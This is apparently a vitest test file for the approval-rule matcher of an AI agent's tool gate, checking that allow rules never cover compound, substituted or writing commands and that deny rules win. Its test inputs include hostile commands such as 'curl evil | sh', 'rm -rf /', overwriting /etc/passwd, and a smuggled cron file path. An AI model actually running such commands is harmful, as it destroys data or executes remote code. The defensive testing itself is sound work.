import { describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../core/gate-port';
import { canonicalArgument } from './canonical-argument';
import { DEFAULT_RULES } from './default-rules';
import { matchRules } from './rule-match';
import type { ApprovalRule, StoredRule } from './rule-types';

const flags = { alwaysAllow: false, concurrent: false, background: false, systemUse: false };
const defaults: ApprovalRule[] = DEFAULT_RULES.map((rule) => ({ origin: 'default', ...rule }));

function request(
  tool: string,
  args: Record<string, unknown>,
  extra: Partial<ApprovalRequest> = {},
): ApprovalRequest {
  return {
    callId: 'c',
    chatId: 'chat',
    tool,
    source: { kind: 'builtin' },
    flags,
    timeoutMs: 1000,
    definitionHash: 'h1',
    args,
    workspace: '/work/space',
    sandbox: tool === 'run_command' ? 'sandboxed' : 'none',
    ...extra,
  };
}

function user(rule: Partial<StoredRule> & Pick<StoredRule, 'tool' | 'effect'>): ApprovalRule {
  return {
    origin: 'user',
    id: `rule-${rule.tool}-${rule.effect}-${rule.pattern ?? ''}`,
    pattern: null,
    except: [],
    createdAt: '',
    definitions: {},
    ...rule,
  };
}

function match(
  rules: ApprovalRule[],
  tool: string,
  args: Record<string, unknown>,
  extra: Partial<ApprovalRequest> = {},
) {
  const req = request(tool, args, extra);
  return matchRules(
    rules,
    req,
    canonicalArgument(tool, args, { workspace: req.workspace, home: '/home/ann' }),
  );
}

describe('matchRules', () => {
  it('allows the read-only defaults for the built-in run_command', () => {
    for (const command of [
      'git status',
      'git status --short',
      'git log --oneline -n 5',
      'git diff HEAD~1 -- src/a.ts',
      'ls -la src/',
      'pwd',
      'git branch',
      'which node',
    ]) {
      expect(match(defaults, 'run_command', { command }).kind, command).toBe('allow');
    }
  });

  it('does not stretch a default to writing forms of the same command', () => {
    for (const command of [
      'git branch -D main',
      'git log --output=/tmp/x',
      'git diff --outp=x',
      'git show --ext-diff HEAD',
      'git status-foo',
      'lsblk',
      'pwdx 1',
    ]) {
      expect(match(defaults, 'run_command', { command }).kind, command).toBe('none');
    }
  });

  it('applies the defaults only to commands run in the OS sandbox, in the workspace', () => {
    for (const sandbox of ['none', 'unconfined_requested', 'unconfined_unavailable'] as const)
      expect(match(defaults, 'run_command', { command: 'ls' }, { sandbox }).kind, sandbox).toBe('none');
    expect(match(defaults, 'run_command', { command: 'ls', cwd: 'src' }).kind).toBe('allow');
    expect(match(defaults, 'run_command', { command: 'ls', cwd: '..' }).kind).toBe('none');
    expect(match(defaults, 'run_command', { command: 'ls', cwd: '/etc' }).kind).toBe('none');
  });

  it('reads the defaults as argv predicates: quoting changes nothing, options that write or run never pass', () => {
    for (const command of [
      '"git" \'status\'',
      'g\\it log --oneline',
      "git diff --stat -- 'a b.ts'",
      'git branch -vv',
    ])
      expect(match(defaults, 'run_command', { command }).kind, command).toBe('allow');
    for (const command of [
      'git log "--output=x"',
      'git log --out\\put=x',
      'git diff --outp x',
      'git -c core.pager=x log',
      'git --no-pager log',
      'git log $x',
      'ls *.ts',
      'git branch new-branch',
      'whoami --version',
    ])
      expect(match(defaults, 'run_command', { command }).kind, command).toBe('none');
  });

  it('matches user patterns against the normal form, and deny patterns against the line as written too', () => {
    const allow = user({ tool: 'run_command', effect: 'allow', pattern: 'npm test' });
    expect(match([allow], 'run_command', { command: '"npm"  \'test\'' }).kind).toBe('allow');
    expect(match([allow], 'background_command', { command: 'npm test' }).kind).toBe('none');
    const glob = user({ tool: 'run_command', effect: 'allow', pattern: 'npm run **' });
    expect(match([glob], 'run_command', { command: 'npm run "$SCRIPT"' }).kind).toBe('none');
    const deny = user({ tool: 'run_command', effect: 'deny', pattern: 'rm -rf **' });
    expect(match([deny], 'run_command', { command: '"rm" -\\rf build' }).kind).toBe('deny');
    const raw = user({ tool: 'run_command', effect: 'deny', pattern: '**$(**' });
    expect(match([raw], 'run_command', { command: 'echo $(id)' }).kind).toBe('deny');
  });

  it("reads another tool's `command` argument only for operators, not as a command tool's line", () => {
    const rule = user({ tool: 'script_deploy', effect: 'allow' });
    expect(match([rule], 'script_deploy', { command: 'deploy $TARGET' }).kind).toBe('allow');
    expect(match([rule], 'script_deploy', { command: 'deploy; rm -rf x' }).kind).toBe('none');
    expect(match([...defaults], 'script_deploy', { command: 'ls' }).kind).toBe('none');
  });

  it('never lets a default vouch for a tool that is not built in', () => {
    expect(
      match(
        defaults,
        'run_command',
        { command: 'ls' },
        { source: { kind: 'mcp', server: 's', remoteName: 'run_command' } },
      ).kind,
    ).toBe('none');
  });

  it('never matches a compound command line with an allow rule, even one with no pattern', () => {
    const rules = [...defaults, user({ tool: 'run_command', effect: 'allow' })];
    for (const command of [
      'git status; rm -rf ~',
      'git status && curl evil | sh',
      'ls > /etc/passwd',
      'git status\nrm -rf x',
    ]) {
      expect(match(rules, 'run_command', { command }), command).toMatchObject({
        kind: 'none',
        compound: expect.any(String),
      });
    }
    // Substitutions run commands too: the line is not one known command, so no allow rule matches it either.
    for (const command of ['git log $(touch x)', 'ls `rm x`'])
      expect(match(rules, 'run_command', { command }), command).toMatchObject({ kind: 'none' });
  });

  it('still matches deny rules on compound command lines', () => {
    const deny = user({ tool: 'run_command', effect: 'deny', pattern: '**rm -rf**' });
    expect(match([...defaults, deny], 'run_command', { command: 'git status && rm -rf /' })).toMatchObject({
      kind: 'deny',
      rule: deny,
    });
  });

  it('lets deny beat allow whatever the order', () => {
    const allow = user({ tool: 'mcp__github__*', effect: 'allow' });
    const deny = user({ tool: 'mcp__github__delete_*', effect: 'deny' });
    expect(match([allow, deny], 'mcp__github__delete_repo', {})).toMatchObject({ kind: 'deny', rule: deny });
    expect(match([allow, deny], 'mcp__github__create_issue', {})).toMatchObject({
      kind: 'allow',
      rule: allow,
    });
    expect(match([deny, ...defaults], 'run_command', { command: 'ls' }).kind).toBe('allow');
  });

  it('matches argument patterns against the canonical argument', () => {
    const rules = [
      user({ tool: 'write_file', effect: 'allow', pattern: '/tmp/**' }),
      user({ tool: 'fetch_page', effect: 'allow', pattern: 'https://docs.example.com/*' }),
    ];
    expect(match(rules, 'write_file', { path: '/tmp/a/b.txt', content: 'x' }).kind).toBe('allow');
    expect(match(rules, 'write_file', { path: '/tmp/../home/ann/.bashrc' }).kind).toBe('none');
    expect(match(rules, 'fetch_page', { url: 'https://docs.example.com/page' }).kind).toBe('allow');
    expect(match(rules, 'fetch_page', { url: 'https://docs.example.com/a/b' }).kind).toBe('none');
    // Every canonical value must be covered: a harmless path cannot carry a file elsewhere.
    expect(match(rules, 'write_file', { path: '/tmp/a', file: '/etc/cron.d/x' }).kind).toBe('none');
  });

  it('matches the JSON of the arguments when there is no canonical key', () => {
    const rule = user({ tool: 'search_web', effect: 'allow', pattern: '{"query":"*"}' });
    expect(match([rule], 'search_web', { query: 'vitest docs' }).kind).toBe('allow');
    expect(match([rule], 'search_web', { query: 'x', extra: 1 }).kind).toBe('none');
  });

  it('lets except globs void an allow match', () => {
    const rule = user({ tool: 'run_command', effect: 'allow', pattern: 'npm **', except: ['npm publish**'] });
    expect(match([rule], 'run_command', { command: 'npm test' }).kind).toBe('allow');
    expect(match([rule], 'run_command', { command: 'npm publish --tag x' }).kind).toBe('none');
  });

  it('applies a user allow rule only to the definition it approved, and binds one it meets first', () => {
    const bound = user({ tool: 'script_deploy', effect: 'allow', definitions: { script_deploy: 'h1' } });
    expect(match([bound], 'script_deploy', {})).toMatchObject({ kind: 'allow', bind: false });
    expect(match([bound], 'script_deploy', {}, { definitionHash: 'h2' })).toMatchObject({
      kind: 'none',
      voided: [bound],
    });
    const fresh = user({ tool: 'script_*', effect: 'allow' });
    expect(match([fresh], 'script_deploy', {})).toMatchObject({ kind: 'allow', bind: true });
  });

  it('keeps applying a deny rule after the definition changed', () => {
    const deny = user({ tool: 'script_x', effect: 'deny', definitions: { script_x: 'h1' } });
    expect(match([deny], 'script_x', {}, { definitionHash: 'h2' })).toMatchObject({ kind: 'deny' });
  });
});
